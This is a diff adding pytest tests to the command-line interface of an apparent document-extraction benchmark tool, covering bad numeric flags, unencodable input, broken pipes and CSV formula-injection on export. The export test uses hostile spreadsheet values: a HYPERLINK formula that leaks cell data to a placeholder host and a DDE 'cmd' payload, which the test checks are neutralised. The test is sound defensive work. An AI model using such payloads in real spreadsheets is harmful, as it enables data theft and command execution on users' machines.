@@ -95,3 +95,76 @@ def test_a_non_australian_region_is_refused_before_any_request(tmp_path, monkeyp
             err = capsys.readouterr().err
             assert code == 2 and "Traceback" not in err, err
         assert emu.stats.snapshot()["requests"] == 0
+
+
+# --- hostile input on the command line ----------------------------------------------------------
+
+@pytest.mark.parametrize("flags,named", [
+    (["--limit", "-1"], "--limit"), (["--limit", "0"], "--limit"), (["--concurrency", "0"], "--concurrency"),
+    (["--concurrency", "-4"], "--concurrency"), (["--tpm", "-5"], "--tpm"), (["--tpm", "nan"], "--tpm"),
+    (["--rpm", "0"], "--rpm"), (["--rpm", "inf"], "--rpm"), (["--batch-size", "0"], "--batch-size"),
+    (["--max-image-dim", "-1"], "--max-image-dim"), (["-o", "concurrency=0"], "concurrency"),
+    (["-o", "tokens_per_min=-5"], "tokens_per_min"), (["-o", "batch_size=1.5"], "batch_size"),
+    (["-o", "concurrency=true"], "concurrency"),
+])
+def test_run_refuses_nonsense_numbers_with_one_line(tmp_path, capsys, flags, named):
+    assert main(["run", "--results", str(tmp_path), *flags]) == 2
+    err = capsys.readouterr().err
+    assert named in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
+    assert not (tmp_path / "migbench.sqlite").exists()  # refused before anything ran
+
+
+def test_parse_never_crashes_on_text_it_cannot_encode():
+    text = b'{"SUPPLIER_NAME": "Caf\\ud800e", "TOTAL_AMOUNT": "\\udfff$1"}\nBUSINESS_ABN: \xed\xa0\x80'
+    p = subprocess.run([sys.executable, "-m", "migbench.cli", "parse", "--doc-type", "receipt"],
+                       input=text, capture_output=True, timeout=60, check=False,
+                       env={**__import__("os").environ, "PYTHONIOENCODING": "ascii"})
+    assert p.returncode == 0, p.stderr.decode()
+    out = json.loads(p.stdout)
+    assert out["SUPPLIER_NAME"] == "Caf\ufffde" and "Traceback" not in p.stderr.decode()
+
+
+def test_parse_into_a_closed_pipe_ends_quietly():
+    # `migbench parse ... | head -0`: the reader is gone before the output is written
+    p = subprocess.Popen([sys.executable, "-m", "migbench.cli", "parse", "--doc-type", "invoice"],
+                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    p.stdout.close()
+    _, err = p.communicate(b"TOTAL_AMOUNT: $1\n" * 1000, timeout=60)
+    assert b"BrokenPipeError" not in err and b"Traceback" not in err, err.decode()
+    assert p.returncode == 0
+
+
+def test_export_neutralises_formulas_in_every_csv_it_writes(tmp_path):
+    from migbench.csvsafe import needs_prefix, restore_cell
+    from PIL import Image
+
+    ds_dir = tmp_path / "ds"
+    ds_dir.mkdir()
+    for name in ("=cmd.png", "ok.png"):
+        Image.new("RGB", (20, 20), "white").save(ds_dir / name)
+    (ds_dir / "ground_truth.csv").write_text(
+        "image_file;DOCUMENT_TYPE;SUPPLIER_NAME;TOTAL_AMOUNT\n'=cmd.png;RECEIPT;Coles;-12.50\nok.png;RECEIPT;@SUM(1);$1\n")
+    ds = load_dataset(ds_dir)
+    assert [d.doc_id for d in ds.documents] == ["=cmd.png", "ok.png"]
+    answers = {"=cmd.png": {"SUPPLIER_NAME": '=HYPERLINK("http://x/?"&A1)', "TOTAL_AMOUNT": "-12.50"},
+               "ok.png": {"SUPPLIER_NAME": "+1+cmd|' /C calc'!A0", "TOTAL_AMOUNT": "@SUM(1)"}}
+    results = tmp_path / "results"
+    Runner(ScriptedBackend(answers), ds, RunStore(results), RunOptions(retry=RetryPolicy(base_s=0.001))).run()
+    out = tmp_path / "pred.csv"
+    assert main(["export", "latest", "--results", str(results), "--out", str(out)]) == 0
+    pred = list(csv.reader(out.open(newline=""), delimiter=";"))  # the ground truth's own delimiter
+    scores = list(csv.reader(out.with_name("pred.scores.csv").open(newline="")))
+    for row in pred + scores:
+        for cell in row:
+            # a cell that could run is only ever there in its neutralised form
+            assert not needs_prefix(cell) or restore_cell(cell) != cell, (row, cell)
+    by_file = {r[0]: r for r in pred[1:]}
+    assert by_file["'=cmd.png"][2:] == ["'=HYPERLINK(\"http://x/?\"&A1)", "-12.50"]  # a number stays a number
+    assert by_file["ok.png"][2:] == ["'+1+cmd|' /C calc'!A0", "'@SUM(1)"]
+    # what migbench wrote, migbench reads back as it was (the ground-truth reader restores cells)
+    from migbench.datasets import _read_rows
+
+    rows, bad, delimiter = _read_rows(out, None)
+    assert delimiter == ";" and not bad
+    assert {r["image_file"]: r["SUPPLIER_NAME"] for _, r in rows} == {
+        "=cmd.png": '=HYPERLINK("http://x/?"&A1)', "ok.png": "+1+cmd|' /C calc'!A0"}
